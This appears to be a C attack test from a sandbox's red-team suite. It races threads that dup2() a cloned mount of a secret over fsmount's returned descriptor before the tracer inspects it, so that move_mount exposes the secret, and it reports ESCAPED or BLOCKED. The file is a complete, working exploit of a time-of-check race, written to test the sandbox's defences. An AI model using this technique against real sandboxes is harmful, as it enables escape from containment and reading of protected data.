/* detached_race.c SECRET WORK: a thread puts a detached copy of SECRET at the descriptor an
 * fsmount returned, before the tracer notes that descriptor at the call's exit (notes37).
 *
 * The engine notes a detached mount by the identity of the mount its result's descriptor is
 * on (PathResolver.note_detached), read through /proc/PID/fd/N at the call's exit stop: a new
 * file system's (fsmount) is moved into place with its device checked, not compared as a
 * bind's source (red team 49) -- an anonymous device (a tmpfs) showing nothing older.  The
 * call ran with the other tasks going on: a thread sharing the descriptor table that
 * dup2()s a copy of SECRET (open_tree(OPEN_TREE_CLONE), noted as such) over the result's
 * number between the kernel's return and the tracer's look had the copy noted as the new
 * file system, and move_mount put it on WORK/out uncompared.
 *
 * In a new mount namespace (as root, or a user namespace): the copy; then up to $ESC_TRIES
 * (100) tries of -- a tmpfs context created; descriptor N closed (the lowest free: fsmount's
 * result); the racing threads wait for N to be open again and dup2() the copy over it;
 * fsmount; move_mount(N, "", WORK/out) -- until the move runs; then WORK/out is read.
 * SECRET should be on a file system with an anonymous device (tmpfs: the test's scene is in
 * /dev/shm).
 * ESCAPED when the secret is read; BLOCKED with the last try's errno otherwise.
 */
#include "attack.h"

#include <linux/mount.h>
#include <sched.h>
#include <sys/mount.h>

#define RACERS 3 /* one of them is on a CPU when the descriptor comes, more often */

static volatile int race_gen, race_fd = -1, race_copy = -1, race_done_gen;

/* for each try (race_gen): wait for race_fd to be open again, put the copy there */
static void *racer(void *arg) {
    (void)arg;
    for (int seen = 0;;) {
        while (race_gen == seen)
            ;
        seen = race_gen;
        if (seen < 0)
            return NULL;
        while (fcntl(race_fd, F_GETFD) < 0)
            ;
        dup2(race_copy, race_fd);
        race_done_gen = seen;
    }
}

int main(int argc, char **argv) {
    if (argc < 3)
        usage("detached_race SECRET WORK");
    const char *secret = argv[1], *work = argv[2];
    char target[4096];
    snprintf(target, sizeof target, "%s/out", work);
    if (unshare(CLONE_NEWNS) < 0) {
        uid_t uid = getuid();
        gid_t gid = getgid();
        if (unshare(CLONE_NEWNS | CLONE_NEWUSER) < 0)
            skipped("unshare: %s", ename(errno));
        map_own_ids(uid, gid);
    }
    if (mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) < 0)
        skipped("making mounts private: %s", ename(errno));
    int err = 0, tries = env_ull("ESC_TRIES") ? (int)env_ull("ESC_TRIES") : 100;
    pthread_t t;
    for (int i = 0; i < RACERS; i++)
        if (pthread_create(&t, NULL, racer, NULL) != 0)
            blocked("pthread_create failed");
    int copy = (int)syscall(SYS_open_tree, AT_FDCWD, secret, OPEN_TREE_CLONE);
    if (copy < 0) {
        if (errno == ENOSYS)
            skipped("open_tree: %s", ename(errno));
        blocked("open_tree %s: %s", secret, ename(errno));
    }
    race_copy = copy;
    for (int attempt = 0; attempt < tries; attempt++) {
        int ctx = (int)syscall(SYS_fsopen, "tmpfs", 0);
        if (ctx < 0)
            blocked("fsopen tmpfs: %s", ename(errno));
        if (syscall(SYS_fsconfig, ctx, FSCONFIG_CMD_CREATE, NULL, NULL, 0) < 0)
            blocked("fsconfig create: %s", ename(errno));
        int n = dup(ctx); /* the lowest free number: fsmount's result once closed */
        if (n < 0)
            blocked("dup: %s", ename(errno));
        race_fd = n;
        close(n);
        race_gen = attempt + 1;
        long made = syscall(SYS_fsmount, ctx, 0, 0);
        int made_err = errno;
        while (made >= 0 && race_done_gen != attempt + 1)
            ;
        if (made < 0)
            blocked("fsmount: %s", ename(made_err));
        if (made != n) { /* (a racer of the last try put the copy at N first: try again) */
            close((int)made);
            close(n);
            close(ctx);
            continue;
        }
        if (syscall(SYS_move_mount, n, "", AT_FDCWD, target, MOVE_MOUNT_F_EMPTY_PATH) == 0) {
            int fd = open(target, O_RDONLY | O_CLOEXEC);
            if (fd < 0)
                blocked("open %s: %s", target, ename(errno));
            if (is_secret_fd(fd))
                escaped("read the secret at %s after %d tries: its copy at fsmount's "
                        "descriptor, moved as a new file system", target, attempt + 1);
            blocked("%s opened: no secret in it", target);
        }
        err = errno;
        close(n);
        close(ctx);
    }
    blocked("move_mount onto %s, %d tries: %s", target, tries, ename(err));
}
